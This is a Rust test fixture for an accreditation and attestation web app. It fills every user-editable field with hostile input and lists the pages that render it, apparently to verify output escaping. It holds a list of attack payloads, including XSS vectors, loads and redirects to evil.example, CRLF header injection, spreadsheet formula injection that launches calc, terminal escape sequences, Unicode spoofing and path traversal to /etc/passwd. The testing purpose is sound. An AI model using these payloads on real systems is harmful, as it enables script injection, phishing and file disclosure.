//! Everything that a stranger can say, each time with words that were made to do something.

use std::collections::BTreeMap;

use harness::story::{Member, World, example_scheme, label, scope};
use protocol::accreditation::Accreditation;
use protocol::attestation::award::{Award, EvidenceFile};
use protocol::attestation::{AttestationId, Label};
use protocol::credential::Party;
use protocol::digest::Digest;
use protocol::scheme::{Scheme, SchemeId};
use protocol::status::StatusKind;
use protocol::time::{Day, Month};

/// What strangers said, and an agency that lists them.
pub(super) struct Said {
    pub(super) world: World,
    pub(super) agency: Member,
    /// One for each of the payloads.
    pub(super) strangers: Vec<Stranger>,
}

/// Who said one payload wherever something can be said.
pub(super) struct Stranger {
    pub(super) member: Member,
    pub(super) scheme: SchemeId,
    pub(super) label: AttestationId,
}

impl Said {
    /// Lets a stranger say each payload in every document.
    pub(super) fn everywhere() -> Self {
        let mut world = World::default();
        let agency = world.found("agency", "2026-01-02");
        let mut said = Self { world, agency, strangers: Vec::new() };
        for (number, payload) in payloads().iter().enumerate() {
            let member = said.world.found(&format!("member-{number}"), "2026-01-03");
            said.in_documents(&member, number, payload);
            let scheme = said.in_a_scheme(&member, payload);
            let label = said.in_a_label(&member, &scheme, payload);
            said.strangers.push(Stranger { member, scheme: scheme.0, label });
        }
        said
    }

    /// Every page that shows some of it.
    pub(super) fn paths(&self) -> Vec<String> {
        let mut paths: Vec<String> =
            ["/", "/?page=1", "/?page=2", "/node", "/posts", "/posts?page=2"].map(str::to_owned).into();
        paths.extend(["/portals", "/counts", "/map"].map(str::to_owned));
        paths.extend([format!("/organisations/{}", self.agency.id), format!("/agencies/{}", self.agency.id)]);
        paths.extend((0..self.strangers.len()).flat_map(|number| self.pages_of(number)));
        paths
    }

    /// The pages that show the words of one stranger.
    pub(super) fn pages_of(&self, number: usize) -> Vec<String> {
        let (by, agency) = (&self.strangers[number], self.agency.id);
        let id = by.member.id;
        vec![
            format!("/organisations/{id}"),
            format!("/listings/{agency}/p{number}"),
            format!("/posts/{id}/p{number}"),
            format!("/portals/{id}/theirs"),
            format!("/schemes/{}", by.scheme),
            format!("/attestations/{}", by.label),
            format!("/issuers/{id}"),
            format!("/compare?with={id}&with={agency}/p{number}"),
        ]
    }

    fn in_documents(&mut self, member: &Member, number: usize, payload: &str) {
        let (short, title) = (cut(payload, 4_000), cut(payload, 200));
        let said = |fields: &[&'static str]| -> Vec<(&'static str, String)> {
            fields.iter().map(|field| (*field, short.clone())).collect()
        };
        let own = [
            "name.en",
            "name.ar",
            "acronym",
            "legal_name",
            "place",
            "website",
            "description.en",
            "governance",
            "competence.one",
            "unknown.field",
            "country",
            "region",
            "ecosystem.odd",
            "cooperation.offers.en",
            "logo",
        ];
        let listed =
            ["name", "place", "website", "register.line", "external.odd", "recognition.1.scheme", "lat"];
        let posted = [
            "kind",
            "title.en",
            "title.ar",
            "description.en",
            "place",
            "website",
            "country",
            "region",
            "ecosystem.odd",
            "technology.odd",
            "withdrawn.odd",
        ];
        let (agency, agency_id) = (&self.agency, self.agency.id);
        let world = &mut self.world;
        let mut edit = |by: &Member, address: &str, edits: &[(&'static str, String)], day: &str| {
            let edits: Vec<(&str, &str)> = edits.iter().map(|(key, value)| (*key, value.as_str())).collect();
            world.edit(by, address, &edits, day);
        };
        edit(member, "profile/self", &said(&own), "2026-01-04");
        edit(agency, &format!("listing/p{number}"), &said(&listed), "2026-01-05");
        edit(member, &format!("post/p{number}"), &said(&posted), "2026-01-06");
        let tie = [("cooperation", "1".to_owned()), ("cooperation.text.en", short.clone())];
        edit(member, &format!("link/{agency_id}"), &tie, "2026-01-06");
        edit(
            member,
            &format!("vouch/{agency_id}"),
            &said(&["version", "role", "unknown.field"]),
            "2026-01-06",
        );
        let portal = ["title.en", "title.ar", "description.en", "website", "rule.text", "unknown.field"];
        // A title that is no line of words is none, and a portal without a title is not shown.
        let shown = ("title.fr", "Portail".to_owned());
        let portal: Vec<_> = portal.map(|field| (field, title.clone())).into_iter().chain([shown]).collect();
        edit(member, "portal/theirs", &portal, "2026-01-06");
    }

    /// A scheme of the stranger's own, and an accreditation under it.
    fn in_a_scheme(&mut self, member: &Member, payload: &str) -> (SchemeId, Scheme) {
        let said = || BTreeMap::from(["en", "ar"].map(|language| (language.to_owned(), cut(payload, 400))));
        let mut scheme = Scheme { title: said(), description: said(), ..example_scheme() };
        for level in &mut scheme.levels {
            (level.title, level.description) = (said(), said());
        }
        for criterion in &mut scheme.criteria {
            (criterion.title, criterion.description) = (said(), said());
        }
        let scheme = Scheme::parse_content(&scheme.to_content()).expect("any words are a title");
        let id = SchemeId { owner: member.id, name: scheme.document_name() };
        self.world.edit(member, id.address().as_str(), &[("content", &scheme.to_content())], "2026-01-07");
        let granted = Accreditation {
            id: AttestationId::named(member.id, [1; 10]),
            grantor: called(member, payload),
            holder: called(&self.agency, payload),
            scope: scope(member, &id, &["gold"]),
            under: None,
            succeeds: None,
            valid_from: Day::parse("2026-01-01").expect("a day"),
            valid_until: Day::parse("2027-12-31").expect("a day"),
        };
        self.world.grant(member, &granted, &scheme, "2026-01-08");
        (id, scheme)
    }

    /// A label for the agency, and an act upon it.
    fn in_a_label(&mut self, member: &Member, scheme: &(SchemeId, Scheme), payload: &str) -> AttestationId {
        let id = AttestationId::named(member.id, [2; 10]);
        let month = Month::parse("2026-01").expect("a month");
        let plain = label(&id, member, member, &self.agency, &scheme.0, "gold", month);
        let label = Label {
            issuer: called(member, payload),
            subject: called(&self.agency, payload),
            owner: called(member, payload),
            award: Award {
                number: Some(cut(payload, 600)),
                subject_type: Some(cut(payload, 600)),
                region: Some(cut(payload, 600)),
                conditions: vec![cut(payload, 600)],
                evidence: vec![EvidenceFile { title: cut(payload, 600), digest: Digest::of(&[b"a report"]) }],
                ..Award::default()
            },
            ..plain
        };
        let id = self.world.award(member, &label, &scheme.1, "2026-01-09");
        let act = StatusKind::Suspended { until: None };
        self.world.act_because(member, &id, act, &cut(payload, 2_000), "2026-01-10");
        id
    }
}

/// A party under a name of the stranger's choice.
fn called(member: &Member, payload: &str) -> Party {
    Party { name: cut(payload, 200), ..member.party() }
}

/// The beginning of a text, at most so many bytes of it.
fn cut(text: &str, bytes: usize) -> String {
    text[..text.floor_char_boundary(bytes)].to_owned()
}

/// What strangers have written elsewhere to make readers' programs do something.
fn payloads() -> Vec<String> {
    let mut all: Vec<String> = PAYLOADS.map(str::to_owned).into();
    all.push("long".repeat(2_000));
    all.push(format!("Z{}algo", "\u{0301}\u{0489}\u{0338}".repeat(100)));
    all
}

const PAYLOADS: [&str; 36] = [
    "<script>fired=1;alert(1)</script>",
    "</title></textarea></style></script><script>alert(2)</script>",
    "\"><img src=x onerror=\"fired=1;alert(3)\">",
    "' onmouseover='alert(4)' autofocus onfocus='alert(4)' x='",
    "<svg/onload=alert(5)><animate onbegin=alert(5) attributeName=x dur=1s>",
    "<svg><script href=\"data:text/javascript,alert(6)\"/></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(7)>",
    "<iframe srcdoc=\"<script>parent.fired=1</script>\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object><embed src=\"//evil.example/y\">",
    "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/y.css';</style>",
    "}body{background:url(https://evil.example/b)}",
    "style=\"background:url(javascript:alert(8))\" expression(alert(8))",
    "javascript:alert(9)",
    "JaVaScRiPt:alert(10)//https://ok.example/",
    "data:text/html,<script>alert(11)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEyKSIvPg==",
    "vbscript:msgbox(1)",
    "https://ok.example\"onmouseover=alert(13)//",
    "//evil.example/%0d%0aSet-Cookie:a=b",
    "[click](javascript:alert(14)) ![x](https://evil.example/pixel.png)",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
    "=HYPERLINK(\"https://evil.example/\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1\r\n=2+2,\"=3+3\"",
    "\u{ff1d}1+1",
    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{1b}]8;;https://evil.example/\u{7}link\u{1b}]8;;\u{7}\u{9b}31m\u{8}\u{8}",
    "safe\u{202e}exe.gpj\u{202c} \u{2067}\u{2066}rtl\u{2069}",
    "ze\u{200b}ro\u{feff}wi\u{2060}dth\u{ad} \u{e0041}\u{e007f}",
    "P\u{430}yp\u{430}l \u{421}luster",
    "\u{627}\u{644}\u{639}\u{646}\u{642}\u{648}\u{62f} <b>(clusters)</b> \u{5d0}\u{5d1}\u{5d2}",
    "null\u{0}byte\u{85}\u{2028}line\u{2029}\u{fffe}\u{ffff}",
    "]]><!-- --><![CDATA[<x/>]]>&lt;&amp;&#60;script&#62;",
    "../../../etc/passwd%00 %2e%2e%2f\\..\\ CON",
];
